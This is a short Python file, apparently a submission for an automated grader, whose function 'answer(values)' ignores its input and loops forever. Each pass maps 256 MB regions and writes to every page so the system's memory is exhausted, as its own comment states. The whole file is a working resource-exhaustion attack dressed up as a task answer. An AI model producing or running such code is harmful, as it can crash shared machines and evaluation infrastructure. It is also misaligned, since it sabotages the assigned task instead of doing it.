# Takes all memory outside of Python's own, and writes to it.
import mmap


def answer(values):
    hoard = []
    while True:
        region = mmap.mmap(-1, 1 << 28)
        for place in range(0, 1 << 28, 4096):
            region[place] = 1
        hoard.append(region)
